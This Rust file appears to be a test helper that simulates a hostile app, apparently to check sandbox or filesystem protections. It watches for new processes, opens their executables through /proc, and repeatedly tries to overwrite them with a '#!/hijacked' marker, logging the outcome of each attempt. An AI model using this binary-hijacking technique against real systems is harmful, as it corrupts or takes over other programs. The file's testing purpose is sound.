//! What a hostile app tries.

use std::collections::{BTreeMap, BTreeSet};
use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::Path;

use nix::sys::statvfs::{FsFlags, fstatvfs};

/// What the attack writes over a program.
const MARK: &[u8] = b"#!/hijacked\n";

/// Watches for processes, opens the program of each, and tries to open that for writing until it works (a program that
/// runs is busy) or never can.
pub fn hijack(path: &str) -> std::io::Result<()> {
    let mut log = OpenOptions::new().create(true).append(true).open(path)?;
    let stop = format!("{path}.stop");
    let mine = std::process::id();
    let mut seen = BTreeSet::from([1, mine]);
    let mut held: BTreeMap<u32, (String, File)> = BTreeMap::new();
    let mut last = mine;
    writeln!(log, "ready")?;
    while !Path::new(&stop).exists() {
        // Faster than a list of /proc: the numbers of new processes follow on each other, and the newest is told.
        let load = std::fs::read_to_string("/proc/loadavg")?;
        let newest = load.split_whitespace().last().and_then(|word| word.parse().ok()).unwrap_or(last);
        for pid in newest.saturating_sub(8)..=newest {
            if seen.contains(&pid) {
                continue;
            }
            let Ok(program) = File::open(format!("/proc/{pid}/exe")) else { continue };
            let name = std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let name = name.split('\0').next().unwrap_or_default();
            let name = name.rsplit('/').next().unwrap_or_default().to_owned();
            let flags = fstatvfs(&program)?.flags();
            let how = if flags.contains(FsFlags::ST_RDONLY) { "read-only" } else { "writable" };
            writeln!(log, "opened {name} {how}")?;
            seen.insert(pid);
            last = newest;
            // Of its neighbours' programs an app with this capability is the master anyway.
            if name != "probe" {
                held.insert(pid, (name, program));
            }
        }
        held.retain(|_, (name, program)| {
            let again = format!("/proc/self/fd/{}", program.as_raw_fd());
            match OpenOptions::new().write(true).open(again).and_then(|mut file| file.write_all(MARK)) {
                Ok(()) => writeln!(log, "wrote {name}").is_err(),
                Err(error) if error.raw_os_error() == Some(nix::libc::ETXTBSY) => true,
                Err(error) => writeln!(log, "refused {name} {error}").is_err(),
            }
        });
    }
    Ok(())
}
